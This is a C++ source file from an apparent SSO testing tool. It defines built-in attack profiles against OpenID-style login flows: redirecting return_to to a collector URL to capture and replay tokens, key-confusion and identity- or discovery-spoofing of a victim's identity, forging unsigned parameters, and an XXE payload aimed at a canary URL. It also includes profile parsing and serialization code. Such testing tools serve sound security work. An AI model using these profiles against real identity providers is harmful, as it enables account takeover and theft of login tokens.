#include "ssoprobe/attack/profile.hpp"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <stdexcept>

namespace ssoprobe::attack {
namespace {

using idp::MutationKind;
using idp::MutationStage;
using idp::TokenMutation;

struct ClassName {
  AttackClass value;
  std::string_view text;
};
constexpr ClassName kClassNames[] = {
    {AttackClass::trc, "TRC"},           {AttackClass::kc1, "KC1"},
    {AttackClass::kc2, "KC2"},           {AttackClass::ids, "IDS"},
    {AttackClass::ds, "DS"},             {AttackClass::unsigned_params, "UNSIGNED"},
    {AttackClass::replay, "REPLAY"},     {AttackClass::xxe, "XXE"},
};

std::vector<AttackProfile> make_builtins() {
  std::vector<AttackProfile> out;
  auto add = [&](std::string name, AttackClass c, Choreography ch, idp::MutationList m) {
    AttackProfile p;
    p.name = std::move(name);
    p.attack_class = c;
    p.choreography = ch;
    p.mutations = std::move(m);
    out.push_back(std::move(p));
  };
  add("trc", AttackClass::trc, Choreography::collect_and_replay,
      {{MutationKind::force_return_to, "", "${collector_url}/collect"}});
  add("kc-1", AttackClass::kc1, Choreography::single_flow,
      {{MutationKind::force_handle, "", "${alpha}"},
       {MutationKind::force_identity, "", "${victim_id}"},
       {MutationKind::set_field, "op_endpoint", "${victim_op}"}});
  add("kc-2", AttackClass::kc2, Choreography::interleaved_double_login,
      {{MutationKind::force_identity, "", "${victim_id}"},
       {MutationKind::set_field, "op_endpoint", "${victim_op}"}});
  add("ids", AttackClass::ids, Choreography::single_flow,
      {{MutationKind::force_identity, "", "${victim_id}"}});
  add("ds", AttackClass::ds, Choreography::single_flow,
      {{MutationKind::spoof_discovery_local_id, "", "${victim_id}"}});

  idp::MutationList unsigned_fields;
  const std::pair<const char*, const char*> forged[] = {
      {"op_endpoint", "${victim_op}"},     {"return_to", "${collector_url}/collect"},
      {"response_nonce", "${forged_nonce}"}, {"assoc_handle", "forged-handle"},
      {"claimed_id", "${victim_id}"},      {"identity", "${victim_id}"},
  };
  for (const auto& [field, value] : forged) {
    unsigned_fields.push_back({MutationKind::drop_from_signed, field, ""});
    unsigned_fields.push_back({MutationKind::set_field, field, value, MutationStage::post_sign});
  }
  add("unsigned", AttackClass::unsigned_params, Choreography::single_flow,
      std::move(unsigned_fields));
  add("replay", AttackClass::replay, Choreography::collect_and_replay, {});
  add("xxe", AttackClass::xxe, Choreography::single_flow,
      {{MutationKind::xxe_payload, "", "${canary_url}"}});
  return out;
}

std::size_t class_rank(AttackClass c) {
  const auto& all = attack_classes();
  return static_cast<std::size_t>(std::find(all.begin(), all.end(), c) - all.begin());
}

}  // namespace

std::string_view to_string(AttackClass c) {
  for (const auto& n : kClassNames)
    if (n.value == c) return n.text;
  return "TRC";
}

std::optional<AttackClass> parse_attack_class(std::string_view text) {
  for (const auto& n : kClassNames)
    if (n.text == text) return n.value;
  return std::nullopt;
}

std::string_view to_string(Choreography c) {
  switch (c) {
    case Choreography::single_flow: return "single_flow";
    case Choreography::interleaved_double_login: return "interleaved_double_login";
    case Choreography::collect_and_replay: return "collect_and_replay";
  }
  return "single_flow";
}

std::optional<Choreography> parse_choreography(std::string_view text) {
  for (auto c : {Choreography::single_flow, Choreography::interleaved_double_login,
                 Choreography::collect_and_replay})
    if (to_string(c) == text) return c;
  return std::nullopt;
}

const std::vector<AttackClass>& attack_classes() {
  static const std::vector<AttackClass> all = {
      AttackClass::trc, AttackClass::kc1, AttackClass::kc2,
      AttackClass::ids, AttackClass::ds,  AttackClass::unsigned_params,
      AttackClass::replay, AttackClass::xxe,
  };
  return all;
}

std::string_view severity(AttackClass c) {
  switch (c) {
    case AttackClass::trc: return "single-account";
    case AttackClass::kc1:
    case AttackClass::kc2:
    case AttackClass::ids:
    case AttackClass::ds: return "all-accounts";
    default: return "finding";
  }
}

nlohmann::ordered_json to_json(const AttackProfile& p) {
  nlohmann::ordered_json j;
  j["schema_version"] = p.schema_version;
  j["name"] = p.name;
  j["attack_class"] = std::string(to_string(p.attack_class));
  j["choreography"] = std::string(to_string(p.choreography));
  j["victim_identity"] = p.victim_identity;
  j["mutations"] = idp::to_json(p.mutations);
  return j;
}

AttackProfile profile_from_json(const nlohmann::ordered_json& j) {
  if (!j.is_object()) throw std::invalid_argument("profile must be a JSON object");
  for (const auto& [key, _] : j.items()) {
    if (key != "schema_version" && key != "name" && key != "attack_class" &&
        key != "choreography" && key != "victim_identity" && key != "mutations")
      throw std::invalid_argument("unknown profile key: " + key);
  }
  AttackProfile p;
  try {
    p.schema_version = j.at("schema_version").get<int>();
    if (p.schema_version != kProfileSchemaVersion)
      throw std::invalid_argument("unsupported profile schema_version " +
                                  std::to_string(p.schema_version));
    p.name = j.at("name").get<std::string>();
    const auto cls = j.at("attack_class").get<std::string>();
    const auto parsed = parse_attack_class(cls);
    if (!parsed) throw std::invalid_argument("unknown attack_class: " + cls);
    p.attack_class = *parsed;
    const auto ch = j.value("choreography", std::string("single_flow"));
    const auto choreography = parse_choreography(ch);
    if (!choreography) throw std::invalid_argument("unknown choreography: " + ch);
    p.choreography = *choreography;
    p.victim_identity = j.value("victim_identity", std::string("${victim_id}"));
    if (j.contains("mutations")) p.mutations = idp::mutations_from_json(j.at("mutations"));
  } catch (const nlohmann::json::exception& e) {
    throw std::invalid_argument(std::string("malformed profile: ") + e.what());
  }
  if (p.name.empty()) throw std::invalid_argument("profile name is empty");
  return p;
}

std::string serialize(const AttackProfile& profile) { return to_json(profile).dump(2) + "\n"; }

AttackProfile parse_profile(std::string_view text) {
  nlohmann::ordered_json j;
  try {
    j = nlohmann::ordered_json::parse(text);
  } catch (const nlohmann::json::parse_error& e) {
    throw std::invalid_argument(std::string("profile is not JSON: ") + e.what());
  }
  return profile_from_json(j);
}

const std::vector<AttackProfile>& builtin_profiles() {
  static const std::vector<AttackProfile> profiles = make_builtins();
  return profiles;
}

std::optional<AttackProfile> find_builtin(std::string_view name) {
  for (const auto& p : builtin_profiles())
    if (p.name == name) return p;
  return std::nullopt;
}

std::vector<AttackProfile> load_profile_dir(const std::string& dir) {
  namespace fs = std::filesystem;
  if (!fs::is_directory(dir)) throw std::invalid_argument("not a profile directory: " + dir);
  std::vector<AttackProfile> out;
  for (const auto& entry : fs::directory_iterator(dir)) {
    if (!entry.is_regular_file() || entry.path().extension() != ".json") continue;
    std::ifstream in(entry.path(), std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    try {
      out.push_back(parse_profile(text.str()));
    } catch (const std::invalid_argument& e) {
      throw std::invalid_argument(entry.path().string() + ": " + e.what());
    }
  }
  std::sort(out.begin(), out.end(), [](const AttackProfile& a, const AttackProfile& b) {
    const auto ra = class_rank(a.attack_class), rb = class_rank(b.attack_class);
    return ra != rb ? ra < rb : a.name < b.name;
  });
  return out;
}

void write_profile_dir(const std::string& dir, const std::vector<AttackProfile>& profiles) {
  std::filesystem::create_directories(dir);
  for (const auto& p : profiles) {
    std::ofstream out(std::filesystem::path(dir) / (p.name + ".json"), std::ios::binary);
    out << serialize(p);
    if (!out) throw std::runtime_error("cannot write profile " + p.name + " to " + dir);
  }
}

std::string expand(std::string_view text, const TemplateVars& vars) {
  std::string out;
  std::size_t pos = 0;
  while (pos < text.size()) {
    const auto open = text.find("${", pos);
    if (open == std::string_view::npos) break;
    const auto close = text.find('}', open + 2);
    if (close == std::string_view::npos) break;
    out.append(text.substr(pos, open - pos));
    const auto it = vars.find(std::string(text.substr(open + 2, close - open - 2)));
    if (it != vars.end())
      out += it->second;
    else
      out.append(text.substr(open, close - open + 1));
    pos = close + 1;
  }
  out.append(text.substr(pos));
  return out;
}

idp::MutationList expand(const idp::MutationList& mutations, const TemplateVars& vars) {
  idp::MutationList out = mutations;
  for (auto& m : out) {
    m.field = expand(m.field, vars);
    m.value = expand(m.value, vars);
  }
  return out;
}

}  // namespace ssoprobe::attack
